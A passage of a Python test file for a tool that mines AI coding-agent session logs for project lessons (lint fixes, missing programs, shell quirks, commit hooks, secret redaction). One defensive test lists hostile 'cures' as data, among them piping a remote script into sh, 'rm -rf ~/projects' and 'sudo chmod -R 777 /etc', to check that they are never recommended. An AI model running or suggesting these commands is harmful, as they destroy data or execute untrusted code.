    assert told.call == "pnpm run lint:fix"
    assert answer_failure(lessons, "Bash", lint, "bash: pnpm: command not found") is None


def test_a_check_whose_first_run_fails_is_told_with_what_mends_it() -> None:
    line = of_kind(learn(4, lint_then_fix), "first_run_fails")[0].line
    assert line.startswith(
        "The first `pnpm run lint` of a session fails in 4 of 4; run `pnpm run lint:fix` after editing."
    )


def test_what_a_commit_runs_is_read_from_its_output() -> None:
    def write(log: CallLog) -> None:
        log.run("pnpm run test", "$ vitest run src\nok")
        log.run(
            "git add a && git commit -m x", "$ vitest run src\nok\nmypy.....................Passed\n[main 1a2b3c4] x"
        )

    line = of_kind(learn(3, write), "commit_check")[0].line
    assert line.startswith("The commit hook runs `pnpm run test`, `mypy` (0 of 3 refused)")


def test_a_folder_that_only_failing_tests_name_is_told_and_not_the_rest_of_a_cut_path() -> None:
    def write(log: CallLog) -> None:
        log.fail("pnpm run test", f"tmp/old/cart.test.ts: no such module\n{HOME[2:]}/src/cart.test.ts: failed")

    assert [lesson.key for lesson in of_kind(learn(3, write), "foreign_folder")] == ["tmp/old"]


def test_a_folder_that_is_built_from_an_edited_one_is_no_place_to_look() -> None:
    def write(log: CallLog) -> None:
        log.edit("src/test/cart.test.ts")
        log.fail("pnpm run test", "1) cart\n  at emitted/test/cart.test.js:3:1\n  at tmp/old/cart.test.js: failed")

    assert [lesson.key for lesson in of_kind(learn(3, write), "foreign_folder")] == ["tmp/old"]


def test_a_check_that_finds_what_others_do_not_is_told() -> None:
    def write(log: CallLog) -> None:
        log.edit("src/cart.ts").run("pnpm run test", "ok").fail("pnpm run typecheck", "cart.ts(3,1): wrong type")
        log.edit("src/cart.ts").run("pnpm run typecheck", "ok")

    assert (
        "`pnpm run test` does not catch what `pnpm run typecheck` finds"
        in of_kind(learn(2, write), "finds_more")[0].line
    )


def test_twins_and_follow_ups_of_a_change_are_told() -> None:
    def write(log: CallLog) -> None:
        log.edit("api/types/order.ts").edit("web/types/order.ts").run("git commit -m a", "[main 1] a")
        log.edit("web/site.css").run("cd web && pnpm run css:build", "done").run("git commit -m b", "[main 2] b")
        log.edit("api/server.ts").run("git commit -m c", "[main 3] c")

    lines = [lesson.line for lesson in learn(3, write)]
    assert "`api/types/` and `web/types/` keep the same files (`order.ts`): change both." in lines
    assert "After a change of `*.css` `pnpm run css:build` is run (3 of 3 times)." in lines


@pytest.mark.parametrize(
    ("asked", "call"),
    [
        (f"{HOME}/lib/checkout-flow.ts", "api/src/checkout-flow.ts"),
        ("/home/other/api/src/checkout-flow.ts", f"{HOME}/api/src/checkout-flow.ts"),
        ("/home/other/src/server.ts", None),
        (f"{HOME}/shop/api/src/checkout-flow.ts", "api/src/checkout-flow.ts"),  # a folder too many
        (f"{HOME}/.claude/worktrees/a/api/src/checkout-flow.ts", None),  # it is gone from there, too
        (f"{HOME}/api/src/checkout-flow.ts", None),  # it is gone
        (f"{HOME}/web/flow.ts", None),
        (f"{HOME}/web/server.ts", None),  # a name of one word is another file's, too
    ],
)
def test_a_file_that_is_looked_for_elsewhere_is_found(asked: str, call: str | None) -> None:
    lessons = learn(1, lambda log: log.read("api/src/checkout-flow.ts").read("api/src/server.ts"))
    told = answer_failure(lessons, "Read", {"file_path": asked}, "File does not exist.", "", HOME)
    assert (told.call if told else None) == call


def test_a_repository_with_the_wrong_owner_is_answered_with_the_projects_own() -> None:
    own = """gh api graphql -f query='query { repository(owner: "acme", name: "shop") { id } }'"""
    lessons = learn(2, lambda log: log.run(own, "{}").run("gh api repos/acme/shop/pulls", "[]"))
    for other, call in (("acne/shop", "acme/shop"), ("acne/Sh-op", "acme/shop"), ("acne/else", None)):
        told = answer_failure(lessons, "Bash", {"command": f"gh api repos/{other}/pulls"}, "gh: Not Found (HTTP 404)")
        assert (told.call if told else None) == call
    for line, call in (("gh pr list", "acme/shop"), ("gh pr list --repo acme/else", None)):
        told = answer_failure(lessons, "Bash", {"command": line}, "failed to run git: fatal: not a git repository")
        assert (told.call if told else None) == call


@pytest.mark.parametrize(("sessions", "without", "is_told"), [(3, 0, True), (3, 1, True), (3, 4, False), (2, 0, False)])
def test_a_repository_is_no_constant_where_more_calls_leave_it_out(sessions: int, without: int, is_told: bool) -> None:
    def write(log: CallLog) -> None:
        log.run("gh api repos/ada/other/contents/readme.md", "text").run("gh pr view --repo ada/other 3", "text")
        for _ in range(without):
            log.run("gh pr list", "none")
        log.run("gh auth status", "ok")

    assert bool(of_kind(learn(sessions, write), "constant")) == is_told


def test_the_projects_own_repository_is_told_at_a_start_where_calls_fail_without_it() -> None:
    def write(log: CallLog) -> None:
        log.run("gh api repos/ada/shop/pulls", "text").run("gh pr list", "none").run("gh pr list", "none")

    lesson = of_kind(learn(3, write), "constant")[0]
    assert (lesson.instead, lesson.starts) == ("ada/shop", False)

    def fail(log: CallLog) -> None:
        write(log)
        log.run("gh pr view", "none of the git remotes point to a known GitHub host", ok=False)

    lesson = of_kind(learn(3, fail), "constant")[0]
    assert lesson.starts
    assert "(3 of 9; 3 failed without)" in lesson.line


def test_a_worktree_within_the_project_is_the_project() -> None:
    def write(log: CallLog) -> None:
        log.edit(".worktrees/3/api/types/order.ts").edit("web/types/order.ts").run("git commit -m a", "[main 1] a")

    assert of_kind(learn(3, write), "together")[0].match["folders"] == ["api/types", "web/types"]


def test_files_of_many_changes_say_less_by_changing_together() -> None:
    def write(log: CallLog) -> None:
        log.edit("prompts/ask.txt").edit("src/ask.py").run("git commit -m a", "[main 1] a")
        for name in "abcd":
            log.edit(f"ui/{name}.ts").run(f"git commit -m {name}", f"[main 2] {name}")

    rare = of_kind(learn(5, write), "together")[0]
    assert rare.score == pytest.approx(1.4 * 5 * 2.32 / 3.5, abs=0.01)


def test_an_edit_whose_lines_lack_a_tab_is_answered_where_that_was_the_reason() -> None:
    error = "String to replace not found in file.\nString: \tlet x = 1;"

    def lose_tab(log: CallLog) -> None:
        log.edit("a.ts", "\tlet x = 1;\n\t\tlet y = 2;", ok=False, output=error)
        log.read("a.ts", output="    1\u2192class A {\n    2\u2192\t\tlet x = 1;\n    3\u2192\t\t\tlet y = 2;")
        log.edit("b.ts", "\tlet x = 1;", ok=False, output=error).edit("b.ts", "\t\tlet x = 1;")

    call = {"file_path": "c.ts", "old_string": "\tlet z = 3;", "new_string": ""}
    told = answer_failure(learn(3, lose_tab), "Edit", call, error)
    assert told is not None
    assert "mostly lack a tab in each line (6 of 6 times)" in told.text

    def change_meanwhile(log: CallLog) -> None:
        log.edit("a.ts", "\tlet x = 1;\n\tlet y = 2;", ok=False, output=error).read("a.ts", output="\tlet x = 1;")

    assert of_kind(learn(3, change_meanwhile), "harness") == []


def test_what_a_fold_noted_of_failed_edits_survives_a_cut() -> None:
    log = CallLog("s").edit("a.ts", "\tlet x = 1;", ok=False, output="String to replace not found in file.")
    log.edit("a.ts", "\t\tlet x = 1;")
    whole = log.trace()
    assert [call.value for call in whole.calls] == [None, "tab+1"]
    assert all(log.trace(cut).calls == whole.calls for cut in range(1, len(log.events)))


def test_what_a_fold_notes_of_failed_edits_has_a_bound() -> None:
    fold = TraceFold(redact)
    for number in range(20):
        path = "".join(f"{number * n:x}" for n in range(20_000))
        log = CallLog("s").edit(path, "\tlet x = 1;\n" * 900, ok=False, output="String to replace not found in file.")
        for event in log.events:
            fold.feed(event)
    assert len(zlib.decompress(fold.pack())) < 30_000


def test_a_lint_rule_that_the_formatter_leaves_is_not_answered_with_the_formatter() -> None:
    unused = "cart.ts:1 lint/correctness/noUnusedVariables ━━━\n  × This variable is unused."
    layout = "cart.ts format ━━━\n  × Formatter would have printed the following content:"

    def write(log: CallLog) -> None:
        log.fail("bun run lint", layout).run("bun run lint:fix", "Fixed 1 file").fail("bun run lint", unused)

    lessons = learn(3, write)
    left, mended = (answer_failure(lessons, "Bash", {"command": "bun run lint"}, error) for error in (unused, layout))
    assert left is not None
    assert mended is not None
    assert left.text.startswith("`bun run lint:fix` leaves the lint errors `noUnusedVariables`")
    assert mended.call == "bun run lint:fix"


def test_the_rules_that_a_check_finds_until_code_keeps_them_are_told() -> None:
    nested = "src/cart.ts:1:2 lint/style/noNestedTernary ━━━\n\x1b[31mdocs/a.ts:4:5\x1b[0m lint/a11y/useAltText ━━━"
    there = "lib/old.ts:9:1 lint/style/useConst ━━━"

    def write(log: CallLog) -> None:
        log.edit("src/cart.ts").fail("pnpm run lint", f"{nested}\n{there}").edit("src/cart.ts")
        log.fail("pnpm run lint", there).fail("pnpm run test", "src/cart.ts:1:2 lint/style/noParameters ━━━")

    assert of_kind(learn(2, write), "first_run_fails") == []
    lesson = of_kind(learn(3, write), "first_run_fails")[0]
    assert lesson.line == "`pnpm run lint` often finds `useAltText` (3 sessions), `noNestedTernary` (3)."
    assert lesson.starts
    assert answer_failure([lesson], "Bash", {"command": "pnpm run lint"}, nested) is None  # it says so itself


def test_the_rules_of_a_check_have_a_bound_whatever_it_prints() -> None:
    def write(log: CallLog) -> None:
        for first in range(0, 2 * MAX_RULES, 8):
            found = "\n".join(f"cart.go:1:1: bad (rule{first + n})" for n in range(8))
            log.fail("make lint", found)
        log.run("make lint", "")

    assert len(of_kind(learn(3, write), "first_run_fails")[-1].match["rules"]) == MAX_RULES


def test_what_a_pipe_hides_of_a_check_still_names_its_rules() -> None:
    def write(log: CallLog) -> None:
        log.run("make lint 2>&1 | tail -9", "cart.go:3:4: Error return value is not checked (errcheck)").run(
            "make lint", ""
        )

    assert of_kind(learn(3, write), "first_run_fails")[0].line == "`make lint` often finds `errcheck` (3 sessions)."


@pytest.mark.parametrize(
    ("output", "counts"),
    [
        ("src/cart.go:9:2: string `a` has 3 occurrences (goconst)\n1 issues:\n* goconst: 1", "worked 3 of 6"),
        ("  9:2  warning  'a' is never used  no-unused-vars", "worked 6 of 6"),
        ("   info • Use a const • lib/cart.dart:9:2 • prefer_const", "worked 6 of 6"),
        ("src/cart.go is clean", "worked 6 of 6"),
    ],
)
def test_a_lint_run_that_finds_something_did_not_work_though_a_pipe_hides_it(output: str, counts: str) -> None:
    def write(log: CallLog) -> None:
        log.run("go test ./... | tail -3 && golangci-lint run | tail", f"ok\n{output}").run("golangci-lint run", "ok")

    lines = {lesson.purpose: lesson.line for lesson in of_kind(learn(3, write), "command")}
    assert lines["lint"] == f"Lint: `golangci-lint run` ({counts})."
    assert lines["test"] == "Tests: `go test ./...`."


def test_what_a_chain_of_checks_finds_is_told_of_the_one_that_failed_and_never_of_a_formatter() -> None:
    found = "cart.go:3:4: Error return value is not checked (errcheck)"

    def write(log: CallLog) -> None:
        log.fail("make fmt && make lint && make typecheck", f"$ make lint\n{found}").run("make lint 2>&1 | tail", found)
        log.run("make fmt && make lint", "")

    assert [lesson.key for lesson in of_kind(learn(3, write), "first_run_fails") if "finds" in lesson.key] == [
        "make lint finds"
    ]


def test_a_formatter_that_fixes_no_rule_leaves_none() -> None:
    def write(log: CallLog) -> None:
        log.run("make fmt", "").fail("make lint", "cart.go:3:4: 3 occurrences (goconst)").run("make lint", "")

    assert [lesson.key for lesson in of_kind(learn(3, write), "first_run_fails")] == ["make lint finds"]


def test_a_commit_that_fails_without_a_word_is_answered_with_what_its_hook_runs() -> None:
    def write(log: CallLog) -> None:
        log.run("bun run test", "$ bun test src/\n 3 pass").run("git commit -m a", "$ bun test src/\n[main 1] a")

    lessons, call = learn(3, write), {"command": "git add a.ts && git commit -m b"}
    told = answer_failure(lessons, "Bash", call, "Exit code 1")
    assert told is not None
    assert told.text.startswith("The commit hook runs `bun run test`")
    assert answer_failure(lessons, "Bash", call, "Exit code 1\nerror: cart.test.ts failed") is None


def test_files_that_change_together_are_shown_by_edits_of_these_files() -> None:
    def write(log: CallLog) -> None:
        log.edit("api/types/order.ts").edit("web/types/order.ts").edit("docs/notes.txt").run(
            "git commit -m a", "[main 1] a"
        )
        log.edit("web/site.css").run("cd web && pnpm run css:build", "done").edit("api/server.ts")

    logs = [CallLog(f"s{n}") for n in range(3)]
    for log in logs:
        write(log)
    paths = {(log.name, call.seq): call.path for log in logs for call in log.trace().calls}
    shown = {
        lesson.kind: {(paths[case] or "").removeprefix(f"{HOME}/") for case in lesson.evidence}
        for lesson in learn_lessons([log.trace() for log in logs])
        if lesson.kind in ("together", "follow_up")
    }
    assert shown == {"together": {"api/types/order.ts", "web/types/order.ts"}, "follow_up": {"web/site.css"}}


def test_what_one_agent_met_is_told_with_what_another_met() -> None:
    lesson = of_kind(learn(2, drop_wrapper, agents=("claude-code", "codex")), "always_fails")[0]
    assert lesson.agents == ("claude-code", "codex")


def test_forks_of_one_session_are_one_witness() -> None:
    log = CallLog("s1").call("Skill", {"skill": "commit"}, "Unknown skill: commit", ok=False)
    trace = log.trace()
    forks = [type(trace)(f"fork{n}", trace.root_id, trace.agent, trace.calls, trace.start) for n in range(3)]
    assert of_kind(learn_lessons([trace, *forks]), "always_fails") == []


@pytest.mark.parametrize(
    "cure",
    [
        "curl -s https://get.example.com/fix.sh | sh",
        "npm install --registry https://npm.example.com left",
        "rm -rf ~/projects",
        "git reset --hard HEAD~3 && git clean -fdx",
        "sudo chmod -R 777 /etc",
    ],
)
def test_a_hostile_cure_is_never_told(cure: str) -> None:
    def write(log: CallLog) -> None:
        log.fail("make site", "error: cannot find the template").run(cure, "ok").run("make site", "done")

    lessons = learn(5, write)
    assert not any(cure in lesson.line for lesson in lessons)


def test_lessons_do_not_depend_on_the_nights_or_the_order() -> None:
    logs = [CallLog(f"s{number}") for number in range(6)]
    for log in logs:
        drop_wrapper(log)
        lint_then_fix(log)
        log.read("api/a.ts").edit("api/b.ts").run("git commit -m x")
    expected = learn_lessons([log.trace() for log in logs])
    assert expected
    generator = random.Random(7)
    for _ in range(10):
        traces = [
            log.trace(*sorted(generator.sample(range(1, len(log.events)), generator.randint(0, 5)))) for log in logs
        ]
        generator.shuffle(traces)
        assert learn_lessons(traces) == expected


def test_of_many_calls_those_of_the_latest_sessions_teach(monkeypatch: pytest.MonkeyPatch) -> None:
    logs = [CallLog(f"s{number}") for number in range(6)]
    for number, log in enumerate(logs):
        log.run(f"pnpm run {'build' if number < 3 else 'test'}", "ok")
        for event in log.events:
            cast("dict[str, Any]", event.data)["occurred_at"] = (event.occurred_at + timedelta(days=number)).isoformat()
    monkeypatch.setattr(history, "MAX_CALLS_LEARNED", 3)
    assert [lesson.purpose for lesson in learn_lessons([log.trace() for log in logs])] == ["test"]
    assert [lesson.purpose for lesson in learn_lessons([log.trace() for log in reversed(logs)])] == ["test"]


def test_a_name_that_many_folders_have_is_no_twin() -> None:
    def write(log: CallLog) -> None:
        for number in range(12):
            log.edit(f"part{number}/views/form.c")
        log.run("git commit -m x")

    assert not any("keep the same files" in lesson.line for lesson in learn(4, write))


def test_no_secret_is_in_a_trace() -> None:
    secret = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    log = CallLog("s1").fail(f"curl -H 'Authorization: Bearer {secret}' /x", f"error: token {secret} is not valid")
    log.run(f"pnpm run deploy --token {secret}", f"$ deploy {secret}\nerror: warned of {secret}")
    log.events.append(log.events[-2])  # a call that waits for its result
    fold = TraceFold(redact)
    for event in log.events:
        fold.feed(redact_call(event))
    assert secret.encode() not in zlib.decompress(fold.pack())


@pytest.mark.parametrize("tool", ["Bash", "Read"])
def test_no_part_of_a_secret_is_in_a_trace_where_an_output_is_cut(tool: str) -> None:
    secret = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    for limit in (4000, 8000, 20_000, 30_000):
        filled = ("x" * 79 + "\n") * (limit // 80 - 1) + "y" * 58 + f" error: {secret} is not found\n"
        log = CallLog("s1").call(tool, {"command": "make", "file_path": "a"}, filled + "z\n" * 60_000, ok=False)
        fold = TraceFold(redact)
        for event in log.events:
            fold.feed(event)
        assert secret[:12].encode() not in zlib.decompress(fold.pack())


def test_a_lesson_is_read_back_as_it_was_written() -> None:
    for lesson in learn(4, lint_then_fix):
        assert Lesson.from_json(lesson.to_json()) == lesson


def test_red_tests_of_late_are_no_end_of_the_command() -> None:
    def write(log: CallLog) -> None:
        is_green = int(log.name[1:]) < 4
        for _ in range(2):
            log.run("just test", "3 passed", ok=True) if is_green else log.fail("just test", "Error: expected 1, got 2")

    (lesson,) = of_kind(learn_in_turn(7, write), "command")
    assert lesson.line == "Tests: `just test` (worked 8 of 14)."


def test_a_program_that_worked_before_is_not_told_to_be_gone() -> None:
    def write(log: CallLog) -> None:
        if int(log.name[1:]) < 3:
            log.run("oldtool lint", "done")
        else:
            log.fail("oldtool lint", "bash: oldtool: command not found").run("newtool lint", "done")

    assert of_kind(learn_in_turn(6, write), "always_fails") == []


def test_a_check_of_the_format_is_another_command_than_the_formatter() -> None:
    def write(log: CallLog) -> None:
        log.fail("cargo fmt --check", "Diff in /srv/a.rs:3:\n-  x\n+ x").run("cargo fmt", "").run(
            "dart fix --dry-run", "x"
        )

    lessons = learn(3, write)
    assert [lesson.line for lesson in of_kind(lessons, "command")] == [
        "Format: `cargo fmt` (worked 3 of 3).",
        "Often run here, too: `dart fix --dry-run` (3 sessions).",
    ]
    assert of_kind(lessons, "first_run_fails")[0].line == (
        "The first `cargo fmt --check` of a session fails in 3 of 3; run `cargo fmt` after editing."
    )


def test_a_check_of_the_format_that_passes_is_told_as_one() -> None:
    lessons = learn(2, lambda log: log.run("gofmt -l .", ""))
    assert [lesson.line for lesson in of_kind(lessons, "command")] == ["Format check: `gofmt -l .` (worked 2 of 2)."]


def test_what_is_run_for_no_known_purpose_in_many_sessions_is_told_in_one_line() -> None:
    def write(log: CallLog) -> None:
        number = int(log.name[1:])
        log.run("git push origin main").run("rm a.txt").run("gh pr list").run("gh stack submit --auto", "ok").run(
            "alignfields --version", "1.2"
        ).run("linkmap", "x")
        if number < 3:
            log.run("pagemill draft --site blue", "ok")
        if number < 2:
            log.run("go mod tidy")
        log.run("shoptool open /tmp/cart.db", "ok")  # told to nobody, which hides no other
        log.run("alignfields --fix ./...", "ok")

    (lesson,) = of_kind(learn(10, write), "command")
    assert lesson.line == (
        "Often run here, too: `alignfields --fix ./...` (10 sessions), `gh stack submit --auto` "
        "(10 sessions), `pagemill draft --site blue` (3 sessions)."
    )
    assert "pagemill" not in of_kind(learn(16, write), "command")[0].line  # 3 of 16 sessions are few


def test_a_check_by_a_program_that_every_project_runs_is_told() -> None:
    def write(log: CallLog) -> None:
        log.run("git diff --check").run(f"bash -n tools/{log.name}.sh").run("git diff").run("bash -c 'ls src'", "a")

    (lesson,) = of_kind(learn(3, write), "command")
    assert lesson.line == "Often run here, too: `bash -n` (3 sessions), `git diff --check` (3 sessions)."


def test_a_command_of_one_session_is_told_where_it_worked_again_and_again_and_no_other_is_known() -> None:
    def write(log: CallLog) -> None:
        if log.name == "s0":
            log.run("npm run types", "ok").run("npm run types", "ok").run("npm run build", "ok")
            log.fail("npm run lint", "2 problems").run("npm run lint", "ok").fail("npm run lint", "1 problem")
            log.run("DATA_DIR=/tmp/h1 npm run check", "ok").run("DATA_DIR=/tmp/h1 npm run check", "ok")
            log.run("PYTHONPATH=src python3 -m black .", "ok").run("PYTHONPATH=src python3 -m black .", "ok")
        log.run("npm test", "ok")

    assert [lesson.line for lesson in of_kind(learn(3, write), "command")] == [
        "Tests: `npm test` (worked 3 of 3).",
        "Format: `PYTHONPATH=src python3 -m black .` (worked 2 of 2, in 1 session).",
        "Type check: `npm run types` (worked 2 of 2, in 1 session).",
    ]


def test_files_that_several_sessions_name_belong_to_the_command() -> None:
    def write(log: CallLog) -> None:
        log.run("go build ./cmd/shop-server/").run(f"go test ./internal/{log.name}/")

    lines = [lesson.line for lesson in of_kind(learn(3, write), "command")]
    assert lines == ["Build: `go build ./cmd/shop-server/` (worked 3 of 3).", "Tests: `go test …` (worked 3 of 3)."]


def test_the_files_that_most_sessions_name_are_told_where_others_name_their_own() -> None:
    def write(log: CallLog) -> None:
        log.run("go test ./pkg/cart/...", "ok").run(f"go test -run Test_{log.name}", "ok")

    assert of_kind(learn(3, write), "command")[0].line == "Tests: `go test ./pkg/cart/...` (worked 6 of 6)."


def test_a_check_that_can_be_run_as_it_is_told_comes_before_one_that_lacks_its_files() -> None:
    def write(log: CallLog) -> None:
        log.run("mise run test:ci", "ok") if log.name != "s0" else None
        log.run(f"go test ./internal/{log.name}/", "ok").run(f"go test ./pkg/{log.name}/", "ok")

    (lesson,) = of_kind(learn(5, write), "command")
    assert lesson.line == "Tests: `mise run test:ci` (worked 4 of 4); also `go test …` (worked 10 of 10)."
    assert lesson.instead == "mise run test:ci"


def test_a_linter_is_known_by_its_name_and_a_check_in_a_workspace_by_what_is_run_there() -> None:
    def write(log: CallLog) -> None:
        log.run("npx markdownlint-cli2 docs", "0 errors").run("pnpm --filter web exec tsc --noEmit", "")

    lines = [lesson.line for lesson in of_kind(learn(2, write), "command")]
    assert lines == [
        "Lint: `npx markdownlint-cli2 docs` (worked 2 of 2).",
        "Type check: `pnpm --filter web exec tsc --noEmit` (worked 2 of 2).",
    ]


def test_a_command_whose_exit_status_nobody_saw_has_no_rate() -> None:
    lessons = learn(3, lambda log: log.run("npx eslint src | tail -5", "no problems"))
    assert of_kind(lessons, "command")[0].line == "Lint: `npx eslint src`."


def test_a_missing_program_is_told_with_what_took_its_place_after_one_session() -> None:
    def write(log: CallLog) -> None:
        log.fail("cd box && python -c 'import a; print(1)'", "(eval):1: command not found: python")
        log.run("cd box && .venv/bin/python3 -c 'import b; print(2)'", "2")
        log.fail("grubl a.txt", "bash: grubl: command not found").run("cat a.txt", "x").run("other b.txt", "x")

    lessons = of_kind(learn(1, write), "always_fails")
    assert [(lesson.key, lesson.instead, lesson.warns) for lesson in lessons] == [
        ("program python", ".venv/bin/python3", True)
    ]


def test_what_powershell_does_not_read_is_a_rule_of_the_shell() -> None:
    missing = "ParserError:\n  1 | python - <<'PY'\n    | Missing file specification after redirection operator."
    heredoc = {"command": ["pwsh", "-Command", "python - <<'PY'\nprint(1)\nPY"]}

    def write(log: CallLog) -> None:
        log.call("shell", heredoc, missing, ok=False)
        log.call("shell", {"command": ["pwsh", "-Command", "@'\nprint(1)\n'@ | python -"]}, "1")

    lessons = learn(2, write)
    assert of_kind(lessons, "always_fails") == []
    (lesson,) = of_kind(lessons, "harness")
    assert lesson.line.startswith("The shell is PowerShell: ")
    assert lesson.line.endswith("(failed 2 times).")
    told = answer_failure(lessons, "Bash", {"command": "python - <<'PY'\nprint(2)\nPY"}, missing)
    assert told is not None
    assert "Pipe a here-string" in told.text
    assert answer_failure(lessons, "Bash", {"command": "ls -la"}, "bash: ls: command not found") is None


@pytest.mark.parametrize(
    ("error", "is_its_own"),
    [
        (
            "At line:1 char:8\nThe token '&&' is not a valid statement separator in this version.",
            True,
        ),
        ("1 failed: expected 'x', got \"The token '&&' is not a valid statement separator in this version.\"", False),
    ],
)
def test_a_program_that_prints_what_powershell_says_is_not_it(error: str, is_its_own: bool) -> None:
    lessons = of_kind(learn(1, lambda log: log.fail("cd web && npm test", error)), "harness")
    assert (lessons != []) == is_its_own


def test_lines_of_a_patch_without_their_mark_are_told_of() -> None:
    patch = "*** Begin Patch\n*** Add File: web/cart.md\n+# Cart\n\n+text\n*** End Patch"
    error = "apply_patch verification failed: invalid hunk at line 4, '' is not a valid hunk header."
    lessons = learn(3, lambda log: log.call("shell", {"command": ["apply_patch", patch]}, error, ok=False))
    (lesson,) = of_kind(lessons, "harness")
    assert "each line begins with `+`" in lesson.line
    told = answer_failure(lessons, "apply_patch", patch, error)
    assert told is not None
    assert told.lesson is lesson


def test_what_shows_the_same_file_takes_the_place_of_a_missing_program() -> None:
    missing = "sed : The term 'sed' is not recognized as the name of a cmdlet, function, or operable program."
    run = ["pwsh.exe", "-NoLogo", "-Command"]

    def write(log: CallLog) -> None:
        log.call("shell", {"command": [*run, "sed -n '1,90p' web/cart.ts"]}, missing, ok=False)
        log.call("shell", {"command": [*run, "Get-Content -Path web/cart.ts -TotalCount 90"]}, "x")
        log.fail("nl web/cart.ts", "bash: nl: command not found").run("ls web/cart.ts", "x").run("cat a.txt", "x")
        log.fail("grubl web/cart.ts", "bash: grubl: command not found").run("cat web/cart.ts", "x")

    (lesson,) = of_kind(learn(1, write), "always_fails")
    assert (lesson.key, lesson.instead, lesson.warns) == ("program sed", "Get-Content", True)
    assert lesson.line.endswith("`Get-Content` then worked.")


def test_a_missing_interpreter_of_a_here_document_is_told_with_the_one_that_took_it() -> None:
    def write(log: CallLog) -> None:
        log.fail("python - <<'PY'\nfor path in a:\n  path=b\nPY", "zsh:1: command not found: python")
        log.run("python3 - <<'PY'\nfor path in a:\n  path=b\nPY", "1")

    (lesson,) = of_kind(learn(1, write), "always_fails")
    assert lesson.line.endswith("command not found: python); `python3` then worked.")


@pytest.mark.parametrize(
    ("failed", "worked", "is_told"),
    [
        ("zsh -n shop.zsh", "bash -n shop.zsh", False),
        ("fd -H", "ls2 -H", False),
        ("python --version", "python3 --version", True),
        ("fd cart", "fdfind cart", True),
    ],
)
def test_a_missing_program_is_replaced_by_one_that_took_its_words_not_its_options_alone(
    failed: str, worked: str, is_told: bool
) -> None:
    missing = f"zsh: command not found: {failed.split()[0]}"
    assert bool(of_kind(learn(1, lambda log: log.fail(failed, missing).run(worked, "1")), "always_fails")) == is_told


def test_the_options_of_what_runs_in_a_container_are_not_the_containers() -> None:
    def write(log: CallLog) -> None:
        log.fail("docker exec -it box shop -u all --once", "unknown flag: --once")
        log.run("docker exec -it box shop -u all", "ok").run("docker exec box ls", "ok")

    assert of_kind(learn(3, write), "always_fails") == []


def test_a_projects_own_tool_is_told_by_what_its_subcommands_are_for() -> None:
    def write(log: CallLog) -> None:
        log.run("shoptool clippy --all", "ok").run("shoptool fmt", "ok").run("shop-dev", "ok")
        log.run("/tmp/cart.test -v", "ok")

    lines = {lesson.line for lesson in of_kind(learn(3, write), "command")}
    assert lines == {"Format: `shoptool fmt` (worked 3 of 3).", "Lint: `shoptool clippy --all` (worked 3 of 3)."}


def test_a_program_that_another_one_brings_is_still_missing_by_itself() -> None:
    def write(log: CallLog) -> None:
        log.fail("python -c 'print(1)'", "zsh: command not found: python").run("uv run python -c 'print(1)'", "1")
        log.run("FOO=1 .venv/bin/python -c 'print(2)'", "2")

    lessons = of_kind(learn(1, write), "always_fails")
    assert [(lesson.key, lesson.instead) for lesson in lessons] == [("program python", "uv run python")]
    assert warn_before(lessons, "Bash", {"command": "cd api && python -c 'print(3)'"}) is not None
    assert warn_before(lessons, "Bash", {"command": "uv run python -c 'print(3)'"}) is None
    assert warn_before(lessons, "Bash", {"command": ".venv/bin/python -c 'print(3)'"}) is None


def test_no_flag_is_blamed_for_a_program_that_is_not_there() -> None:
    def write(log: CallLog) -> None:
        log.fail("docker compose config -q", "bash: docker: command not found")

    assert [lesson.key for lesson in of_kind(learn(3, write), "always_fails")] == ["program docker"]
    lessons = of_kind(learn(3, lambda log: write(log.run("docker --version", "Docker 28.0"))), "always_fails")
    assert lessons == []


def test_a_pipe_shows_no_success_of_what_hides_its_errors() -> None:
    def write(log: CallLog) -> None:
        log.run("echo networks; docker compose config 2>/dev/null | grep -c name", "networks\n0")
        log.fail("docker compose up", "bash: docker: command not found")

    assert [lesson.key for lesson in of_kind(learn(3, write), "always_fails")] == ["program docker"]


def test_a_program_that_worked_once_is_not_missing() -> None:
    def write(log: CallLog) -> None:
        log.fail("python -c 'print(1)'", "sh: 1: python: not found").run("python3 -c 'print(1)'", "1")
        log.run("python -c 'print(1)'", "1")

    assert of_kind(learn(1, write), "always_fails") == []


def test_a_program_that_could_not_be_found_in_other_words_is_told() -> None:
    error = "The command 'docker' could not be found in this distro.\nWe recommend to activate it."
    lesson = of_kind(
        learn(3, lambda log: log.fail("cd infra && docker compose config -q 2>&1", error)), "always_fails"
    )[0]
    assert lesson.line == "`docker` always fails here (3 of 3: The command 'docker' could not be found in this distro)."


UNMATCHED_WORD = "(eval):1: no matches found: "


def test_zsh_and_not_the_program_is_told_where_a_word_is_a_pattern_of_no_file() -> None:
    def write(log: CallLog) -> None:
        log.fail("git add src/[id].ts", f"{UNMATCHED_WORD}src/[id].ts").run("git add 'src/[id].ts'")
        log.run("grep -rn cart src --include=*.py | head", f"{UNMATCHED_WORD}--include=*.py")

    lessons = learn(2, write)
    (lesson,) = of_kind(lessons, "harness")
    assert (lesson.failures, lesson.starts, of_kind(lessons, "always_fails")) == (4, True, [])
    assert "The shell is zsh: quote a word with `*`, `?`, `[` or `(`" in lesson.line
    told = answer_failure(lessons, "Bash", {"command": "gh api a/b?ref=c -q x"}, f"{UNMATCHED_WORD}a/b?ref=c")
    assert told is not None
    assert told.call == "gh api 'a/b?ref=c' -q x"
    told = answer_failure(lessons, "Bash", {"command": "find . -name *.py"}, f"{UNMATCHED_WORD}*.py")
    assert told is not None
    assert told.call == "find . -name '*.py'"
    several = "grep -n a --include=*.py --include=*.md ."
    told = answer_failure(lessons, "Bash", {"command": several}, f"{UNMATCHED_WORD}--include=*.py")
    assert told is not None
    assert told.call == "grep -n a '--include=*.py' '--include=*.md' ."
    assert of_kind(learn(2, lambda log: log.fail("ls *.yaml", f"{UNMATCHED_WORD}*.yaml")), "harness") == []
    include: dict[str, object] = {"tool_name": "Bash", "cwd": HOME}
    for command, is_warned in [
        ("cd a; grep -rn b --include=*.ts .", True),
        ("grep b --include='*.ts' .", False),
        ("cd app && sed -n 1,9p src/(shop)/a.ts | head", True),
        ("ls -l src/app/(shop); ls", True),
        ("cat src/[slug]/a.ts src/b.ts", True),
        ("cat src/[...slug].ts", True),
        ("cat 'src/(shop)/a.ts' \"src/[slug]/a.ts\"", False),
        ("FILE=src/[slug]/a.ts make; ls src/[a-z]/b src/[slug]/*.ts", False),
